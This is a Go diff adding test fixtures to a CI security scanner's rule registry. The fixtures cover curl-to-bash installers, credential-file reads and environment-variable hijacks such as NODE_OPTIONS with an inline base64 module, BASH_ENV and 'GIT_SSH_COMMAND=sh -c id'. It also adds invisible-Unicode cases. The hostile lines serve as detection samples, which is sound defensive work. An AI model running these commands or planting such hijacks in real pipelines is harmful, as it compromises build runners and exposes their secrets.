@@ -207,6 +207,10 @@ var registry = []Rule{
 			// the tool a dev container feature is named after.
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -LsSf https://github.com/acme/dist/releases/download/v0.31.0/dist-installer.sh | sh", 6, false},
 			{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool.invalid | bash", 0, false},
+			// Outside a dev container feature a folder's name is one the change
+			// chose; a repository named after it at a branch is anyone's.
+			{"tools/ktool/install.sh", "curl -LsSf https://setup.ktool.invalid | bash", 0, true},
+			{".devcontainer/features/ktool/install.sh", "curl -LsSf https://github.com/someone/ktool/raw/main/install.sh | bash", 0, true},
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
@@ -506,6 +510,9 @@ var registry = []Rule{
 		}},
 	{"credential-file-read", KindCredential, High, "reads credential files (~/.ssh, .netrc, ...)",
 		"the runner's own keys and tokens sit in these files", []Case{
+			// An archive's name is not the copying command.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          7z a \"$ARCHIVE.zip\" \"$ARCHIVE\"\n          echo \"ASSET=$ARCHIVE.zip\" >> $GITHUB_ENV", 0, true},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: cp .git/config site/meta.txt", 4, false},
 			{"x.sh", "cat ~/.ssh/id_rsa", 0, false},
 		}},
 	{"ci-secrets", KindCredential, High, "reads CI secrets",
@@ -788,6 +795,17 @@ var registry = []Rule{
 			{"azure-pipelines.yml", "steps:\n  - bash: echo \"##vso[task.setvariable variable=LD_PRELOAD]$(pwd)/x.so\"", 2, false},
 			{"azure-pipelines.yml", "steps:\n  - bash: echo \"##vso[task.setvariable variable=NODE_OPTIONS]--max-old-space-size=8192\"", 0, true},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: printf 'NODE_OPTIONS=--require=%s/t/r.cjs\\n' \"$PWD\" >> \"$GITHUB_ENV\"", 4, false},
+			// A path into the workspace, an inline module, a directory of the
+			// tree put on a search path, a script named without ./, a shell
+			// command line: each loads what the change wrote.
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"NODE_OPTIONS=--require=/home/runner/work/app/app/hook.js\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"NODE_OPTIONS=--import=data:text/javascript;base64,Y29uc29sZS5sb2coMSk=\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"PYTHONPATH=tools\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"JAVA_TOOL_OPTIONS=-javaagent:build/agent.jar\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"BASH_ENV=hook.sh\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"RUSTC_WRAPPER=wrap.sh\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"GIT_SSH_COMMAND=sh -c id\" >> $GITHUB_ENV", 4, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"LD_PRELOAD=libjemalloc.so.2\" >> $GITHUB_ENV\n          echo \"NODE_OPTIONS=--require ts-node/register\" >> $GITHUB_ENV\n          echo \"LD_LIBRARY_PATH=/usr/local/lib\" >> $GITHUB_ENV\n          echo \"GIT_SSH_COMMAND=ssh -o StrictHostKeyChecking=no\" >> $GITHUB_ENV", 0, true},
 			// A tool on PATH, or an option that loads no module.
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"SCCACHE_GHA_ENABLED=true\" >> $GITHUB_ENV\n          echo \"RUSTC_WRAPPER=sccache\" >> $GITHUB_ENV\n          echo \"NODE_OPTIONS=--max-old-space-size=8192\" >> $GITHUB_ENV", 0, true},
 		}},
@@ -885,6 +903,7 @@ var registry = []Rule{
 			{"locales/fa.json", "{\n  \"books\": \"کتاب\u200cها\"\n}", 0, true},
 			{"src/hi.js", "const s = 'क्\u200dष'", 0, true},
 			{"locales/mn.json", "{\"x\": \"ᠮᠣᠩᠭᠣᠯ\u180eᠪᠢᠴᠢᠭ\"}", 0, true},
+			{"locales/th.json", "{\"x\": \"สวัสดี\u200bครับ\"}", 0, true},
 			{"x.js", "const { timeout,\u180e } = req.query", 0, false},
 			{"x.js", "const role = 'admin\u200d'", 0, false},
 		}},
